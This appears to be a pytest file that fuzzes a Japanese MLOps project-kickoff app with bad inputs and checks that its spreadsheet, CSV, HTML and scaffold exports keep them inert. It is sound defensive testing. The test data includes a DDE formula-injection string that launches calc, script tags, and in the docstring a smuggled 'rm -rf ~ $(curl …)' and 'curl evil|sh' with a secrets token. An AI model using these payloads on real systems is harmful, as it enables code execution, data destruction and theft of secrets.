"""Break-it 67c: a new Japanese consultant follows the article from a BLANK project, page by page, pasting bad values.

The path: File ▸ 新規プロジェクト… (not the demo), Project Properties, ヒアリング (text, dates, numbers, tables,
a session), WBS (生成 from the hearing, then edited), 実験環境構築 / データ基盤・CI (data sources from the hearing),
システム化計画 (cost table, retraining, capacity rows), then every export, opened as the customer would.

Tried
- Blank project (window and `project new`): names and customers with =HYPERLINK(…), @SUM, tab, newline, 𠮷, 🚀,
  <script>, Markdown (# * _ [x](javascript:) | ` ~~), &amp;, a right-to-left override, 200+ characters, only '&'.
- Hearing: 100,000 characters of `=cmd|…` 𠮷🚀 tab ESC VT lines in 背景・課題 (undo, redo, window language EN and
  back), 100,001 characters, +1+1 / -2-3 / @SUM, 令和 and full-width dates, -5 / 10^20 / 1e308 people, tables whose
  cells start with = - + @, a session titled `=第1回 <script>` with attendees =山田 @佐藤 -鈴木.
- WBS: generated on the blank project, cells set to =HYPERLINK, @SUM+tab+<script>+40,000 characters, −３, １２３４５６７８,
  令和９年４月１日, 令和9年2月30日, a title of two lines, an empty title, +山田 tab 🚀, 60,000 🚀 with BEL and NUL;
  undo, window language EN and back.
- Data sources named ../../../tmp/x, CON, index, 3,000 × 長, 🚀𠮷, two of the same name, 売上データ_2024 / 在庫データ_2024.
- System planning: cost rows of 999,999,999,999,999 × 999,999,999,999,999, −１，０００，０００ × １２．５ USD with no
  rate, a negative retraining cost, capacity rows with peak −5, utilisation 0 %, latency 0, a 10^15 s processing time.
- Frameworks `PyTorch; rm -rf ~ $(curl …)` and other tools `RUN curl evil|sh ${{ secrets.TOKEN }}` into the scaffold.
- Every export: Excel WBS, hearing sheet, experiment sheet, system plan (md, xlsx), proposal (md, html, pdf), minutes,
  follow-ups, MS Project XML, tracker CSV, wiki (plain, GitHub, MkDocs + `mkdocs build --strict`), review (md, html,
  pdf, xlsx), scaffold; read back with openpyxl, csv, pdftotext; workbooks printed by LibreOffice and the PDFs looked
  at with pdftoppm (by hand, not in this file: minutes of work each).

Held
- 100,000 characters of mixed text saved whole, undone, redone, through EN and back; 100,001 refused under the field
  in Japanese (「背景・課題: 100,001 文字は長すぎます…」), the draft kept through the language switch.
- Every workbook: text starting with = + - @ is a text cell, never a formula; control characters shown as ␛ ␋ ␇;
  the hearing sheet cuts the 100,000-character answer at Excel's limit and says so in the export report.
- Tracker CSV: = + - @ cells prefixed with '; Markdown/HTML documents escape every user text (no live <script>,
  <img onerror>, javascript: link), MkDocs builds --strict; YAML of mkdocs.yml quoted; file names from data
  sources and project names safe (../, CON, RLO gone); scaffold puts hearing text in comments only.
- WBS cells: refusals said in Japanese naming the column; 令和 and full-width dates and digits read; undo names the
  edit in Japanese again after EN and back.
- Project properties: a 100,001-character customer or description refused naming the field, nothing changed.
- The capacity calculator names each unusable input (正の数ではありません, 大きすぎて計算できません) and leaves it out.

Broke
1. Two data sources named 売上データ_2024 and 在庫データ_2024 (ordinary Japanese names) get the same raw dataset name
   「2024」 and the same storage path s3://…/raw/2024/ in the experiment-management sheet (①データセット名(raw),
   保存先) and in the scaffold's data/datasets/raw_datasets.csv: both data sets would be synced into one folder, and
   the processed-data sheet's drop-down cannot tell them apart. Nothing is said (「形式上入らなかった項目はありません」).
   Typing another row's dataset name on the データ基盤・CI page (set_dataset) is taken as well.
2. 再学習1回あたりのコスト accepts -5,000 (a stray minus; every count in the hearing refuses it). The system plan then
   says the running cost is −152,083 JPY a month and, with a business value of 0, that the 正味の効果 is
   +152,083 JPY a month: a positive business case the customer reads, with no warning.
3. PoC終了日 typed before PoC開始日 (令和9年3月31日 for a PoC starting 令和9年4月1日, a year slip) is saved without a
   word on the Hearing page; the proposal then shows the PoC's end as 「未定」 (the typed date silently dropped),
   while the wiki says 「2027/04/01 〜 2027/03/31」.
4. A project named with many '&' (R&D ×66, 198 characters, allowed) gets a hearing-sheet page header of 279
   characters: Excel refuses header/footer text over 255 characters (MS-OI29500 oddHeader), so the customer's Excel
   reports the file as damaged. The '&' doubling of header_text makes the text longer without a cap.
5. `wbs set 人日=-3` answers 「見積(人日): 「-3」は数値ではありません」: -3 is a number; the window says
   「範囲外です(0〜1000)」 for −３ and the hearing 「0 より小さい値です(0 以上を入力してください)」.
"""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
from PySide6.QtGui import QAction
from PySide6.QtWidgets import QLabel

from app import features
from app.ui import messages
from app.ui.wbs.columns import INDEX
from tests.gui_helpers import make_window, settle, wbs_find
from tests.test_breaker56a import type_line
from tests.test_nothing_lost_gui import open_item, stored

REPO = Path(__file__).resolve().parent.parent
BACKGROUND = "hearing.basics.background"
LINE = '=cmd|" /C calc"!A0 𠮷田🚀\t<script>alert(1)</script>\x1b[31m\x0b'
HUGE = ((LINE + "\n") * 5000)[:100_000]


def cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    """``python -m app --db DB --lang ja ARGS`` as the consultant types it, on the test's own database."""
    home = tmp_path / "cli-home"
    env = {**os.environ, "PYTHONPATH": str(REPO), "MLOPS_KICKOFF_HOME": str(home), "MLOPS_KICKOFF_SETTINGS": str(home / "s.ini")}
    return subprocess.run([sys.executable, "-m", "app", "--db", str(tmp_path / "cli.sqlite3"), "--lang", "ja", *args],
                          cwd=REPO, env=env, capture_output=True, text=True, timeout=120)  # fmt: skip


def ok(proc: subprocess.CompletedProcess) -> str:
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


def blank(qtbot, db_path, monkeypatch, name: str = "新規案件"):
    """A Japanese window with a new, empty project opened by File ▸ 新規プロジェクト…."""
    window = make_window(qtbot, db_path, global_lang="ja")
    monkeypatch.setattr(messages, "ask_text", lambda *_a, **_k: name)
    window.findChild(QAction, "newProjectAction").trigger()
    qtbot.waitUntil(lambda: window.state.project is not None and window.state.project.name == name, timeout=5000)
    settle(window)
    return window


def export_from_page(window, monkeypatch, kind: str, out: Path) -> str:
    """The Exports page's button of ``kind``, the save dialog answered with ``out``: the report shown."""
    monkeypatch.setattr(messages, "save_file", lambda *_a, **_k: str(out))
    window.show_page("exports")
    settle(window)
    window.page("exports").export_kind(kind)
    settle(window)
    return window.page("exports").result_label.text()


# --- held ---------------------------------------------------------------------------------------------------------


def test_100000_mixed_characters_in_a_blank_project_survive_undo_redo_and_the_language_switch(qtbot, db_path, monkeypatch, said) -> None:
    window = blank(qtbot, db_path, monkeypatch)
    editor = open_item(window, qtbot, BACKGROUND)
    field = editor.editors["value"].edit
    field.selectAll()
    field.insertPlainText(HUGE)
    assert editor.flush()
    settle(window)
    assert stored(window, BACKGROUND).value == HUGE
    window.undo_action.trigger()
    settle(window)
    assert stored(window, BACKGROUND).value is None
    assert "背景・課題" in window.redo_action.text()
    window.redo_action.trigger()
    settle(window)
    window.set_ui_lang("en")
    settle(window)
    window.set_ui_lang("ja")
    settle(window)
    assert open_item(window, qtbot, BACKGROUND).editors["value"].edit.toPlainText() == HUGE
    assert stored(window, BACKGROUND).value == HUGE
    assert not said


def test_100001_characters_are_refused_under_the_field_in_japanese_and_kept_through_the_language_switch(qtbot, db_path, monkeypatch) -> None:
    window = blank(qtbot, db_path, monkeypatch)
    editor = open_item(window, qtbot, BACKGROUND)
    field = editor.editors["value"].edit
    field.selectAll()
    field.insertPlainText(HUGE + "あ")
    assert not editor.flush()
    settle(window)
    assert stored(window, BACKGROUND).value is None
    error = window.page("hearing").editor.findChild(QLabel, "answerError").text()
    assert "背景・課題" in error and "100,001" in error and "hearing." not in error
    window.set_ui_lang("en")
    settle(window)
    window.set_ui_lang("ja")
    settle(window)
    assert len(open_item(window, qtbot, BACKGROUND).editors["value"].edit.toPlainText()) == 100_001


def test_wbs_generated_on_a_blank_project_takes_bad_cells_in_japanese_and_exports_them_as_text(qtbot, db_path, monkeypatch, said, tmp_path) -> None:
    window = blank(qtbot, db_path, monkeypatch, name="R&D =1+1 <b>𠮷田</b>🚀")
    window.show_page("wbs")
    settle(window)
    page = window.page("wbs")
    page.generate()
    settle(window)
    task = wbs_find(page, "ヒアリング実施")
    typed = [("title", '=HYPERLINK("x","𠮷田")🚀', True), ("completion_condition", "@SUM(A1)\t<script>x</script>", True),
             ("estimate_days", "−３", False), ("start", "令和９年４月１日", True), ("finish", "令和9年2月30日", False),
             ("title", "一行目\n二行目", False), ("title", "", False), ("owner_name", "+山田🚀", True)]  # fmt: skip
    for column, value, taken in typed:
        assert page.model.setData(page.model.index_of(task, INDEX[column]), value) is taken, (column, value, said)
        settle(window)
    assert all(re.search(r"[ぁ-んァ-ン一-龥]", text) and not re.search(r"\b[a-z_]+\.[a-z_]+", text) for text in said), said
    window.set_ui_lang("en")
    settle(window)
    window.set_ui_lang("ja")
    settle(window)
    assert window.undo_action.text().endswith("担当者の編集")
    out = tmp_path / "wbs.xlsx"
    export_from_page(window, monkeypatch, "wbs", out)
    sheet = openpyxl.load_workbook(out)["WBS"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in ('=HYPERLINK("x","𠮷田")🚀', "@SUM(A1)\t<script>x</script>", "+山田🚀"):
        assert cells[text].data_type == "s", text
    assert not [c.coordinate for c in cells.values() if c.data_type == "f"]


def test_properties_of_a_blank_project_refuse_100001_characters_naming_the_field(qtbot, db_path, monkeypatch, said) -> None:
    from app.ui.projects.properties import ProjectPropertiesDialog

    window = blank(qtbot, db_path, monkeypatch)
    dialog = ProjectPropertiesDialog(window.state, window)
    dialog.show()
    dialog.customer.setText("顧" * 100_001)
    dialog.apply()
    settle(window)
    assert said == ["顧客: 100,001 文字は長すぎます(1 つの欄は 100,000 文字まで)。何も変更していません"]
    assert dialog.isVisible() and window.state.projects.get(window.state.project_id).customer == ""
    dialog.close()


def test_blank_project_cli_exports_keep_formula_text_inert(tmp_path) -> None:
    ok(cli(tmp_path, "project", "new", "--customer", "@SUM(A1)\t<script>alert(1)</script>", '=HYPERLINK("http://x","𠮷田🚀")'))
    ok(cli(tmp_path, "hearing", "answer", "--project", "1", "--item", "hearing.basics.team",
           "--row", '氏名==HYPERLINK("x","𠮷田 太郎🚀")', "所属=顧客", "役割=-PM", "--row", "氏名=山田", "所属=自社", "役割=+MLOps"))  # fmt: skip
    ok(cli(tmp_path, "wbs", "generate", "--project", "1"))
    ok(cli(tmp_path, "wbs", "set", "--project", "1", "--task", "1.3", "担当者=+山田🚀", "完了条件=@SUM(A1)"))
    ok(cli(tmp_path, "export", "hearing-sheet", "--project", "1", "--out", str(tmp_path / "h.xlsx")))
    ok(cli(tmp_path, "export", "tracker-csv", "--project", "1", "--out", str(tmp_path / "t.csv")))
    book = openpyxl.load_workbook(tmp_path / "h.xlsx")
    team = {c.value: c for row in book["体制"].iter_rows() for c in row if isinstance(c.value, str)}
    assert team['=HYPERLINK("x","𠮷田 太郎🚀")'].data_type == "s" and team["+MLOps"].data_type == "s"
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'+山田🚀" in cells and "'@SUM(A1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


# --- broke --------------------------------------------------------------------------------------------------------


def test_two_data_sources_ending_in_the_same_year_get_one_dataset_name_and_one_storage_path(tmp_path) -> None:
    ok(cli(tmp_path, "project", "new", "需要予測PoC"))
    ok(cli(tmp_path, "hearing", "answer", "--project", "1", "--item", "hearing.prereq.data_sources",
           "--row", "データソース=売上データ_2024", "種類=テーブルデータ", "取得元=BigQuery",
           "--row", "データソース=在庫データ_2024", "種類=テーブルデータ", "取得元=S3"))  # fmt: skip
    ok(cli(tmp_path, "export", "experiment-sheet", "--project", "1", "--out", str(tmp_path / "e.xlsx")))
    ok(cli(tmp_path, "export", "scaffold", "--project", "1", "--out", str(tmp_path / "repo")))
    sheet = openpyxl.load_workbook(tmp_path / "e.xlsx").worksheets[0]
    rows = [r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0]]
    names = [r[1] for r in rows]
    paths = [r[7] for r in rows]
    with open(tmp_path / "repo" / "data" / "datasets" / "raw_datasets.csv", encoding="utf-8", newline="") as f:
        scaffold = [(r["dataset"], r["storage_path"]) for r in csv.DictReader(f)]
    assert len(set(names)) == 2 and len(set(paths)) == 2, (names, paths)
    assert len({d for d, _ in scaffold}) == 2 and len({p for _, p in scaffold}) == 2, scaffold


def test_a_negative_retraining_cost_is_refused_or_flagged_not_turned_into_a_net_benefit(tmp_path) -> None:
    ok(cli(tmp_path, "project", "new", "SP案件"))
    typed = cli(tmp_path, "hearing", "answer", "--project", "1", "--item", "system_planning.cost.retraining_cost", "--value", "-5000")
    ok(cli(tmp_path, "hearing", "answer", "--project", "1", "--item", "system_planning.cost.retraining_frequency", "--value", "毎日"))
    ok(cli(tmp_path, "hearing", "answer", "--project", "1", "--item", "system_planning.cost.business_value", "--value", "0"))
    ok(cli(tmp_path, "export", "system-plan", "--project", "1", "--out", str(tmp_path / "sp.md")))
    plan = (tmp_path / "sp.md").read_text(encoding="utf-8")
    net = next(line for line in plan.splitlines() if line.startswith("| 正味の効果 |"))
    warned = any(line.startswith("- ⚠") and "再学習" in line for line in plan.splitlines())
    assert typed.returncode != 0 or warned, (typed.stdout, net)


def test_a_poc_end_before_its_start_is_said_or_kept_in_the_proposal(qtbot, db_path, monkeypatch, said, tmp_path) -> None:
    window = blank(qtbot, db_path, monkeypatch)
    type_line(window, qtbot, "hearing.basics.poc_start", "令和9年4月1日")
    type_line(window, qtbot, "hearing.basics.poc_end", "令和9年3月31日")  # a year slip: 令和10年 was meant
    assert str(stored(window, "hearing.basics.poc_end").value) == "2027-03-31"
    shown = [label.text() for label in window.page("hearing").editor.findChildren(QLabel) if label.isVisible()]
    warned = bool(said) or any("開始日" in text for text in shown)
    out = tmp_path / "proposal.md"
    export_from_page(window, monkeypatch, "proposal", out)
    poc_row = next(line for line in out.read_text(encoding="utf-8").splitlines() if line.startswith("| **PoCフェーズ**"))
    assert warned or "2027/03/31" in poc_row, (said, shown, poc_row)


def test_the_hearing_sheet_header_of_a_long_r_and_d_name_fits_excels_255_characters(tmp_path) -> None:
    name = "R&D" * 66  # 198 characters: the app takes up to 200
    ok(cli(tmp_path, "project", "new", name))
    ok(cli(tmp_path, "export", "hearing-sheet", "--project", "1", "--out", str(tmp_path / "h.xlsx")))
    with zipfile.ZipFile(tmp_path / "h.xlsx") as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")  # the hearing sheet's own tab
    raw = re.search(r"<oddHeader>([^<]*)</oddHeader>", xml)
    assert raw is not None
    text = raw.group(1).replace("&amp;", "&")
    assert len(text.encode("utf-16-le")) // 2 <= 255, len(text)


def test_a_negative_estimate_is_refused_as_out_of_range_not_as_no_number(tmp_path) -> None:
    ok(cli(tmp_path, "project", "new", "工数案件"))
    ok(cli(tmp_path, "wbs", "generate", "--project", "1"))
    refused = cli(tmp_path, "wbs", "set", "--project", "1", "--task", "1.2", "人日=-3")
    assert refused.returncode != 0
    assert "数値ではありません" not in refused.stderr, refused.stderr


def test_the_kinds_the_exports_page_offers_are_the_ones_tried() -> None:
    assert {"hearing-sheet", "minutes", "proposal", "wbs", "mspdi", "tracker-csv", "wiki", "experiment-sheet", "system-plan", "review"} <= set(
        features.EXPORTS
    )
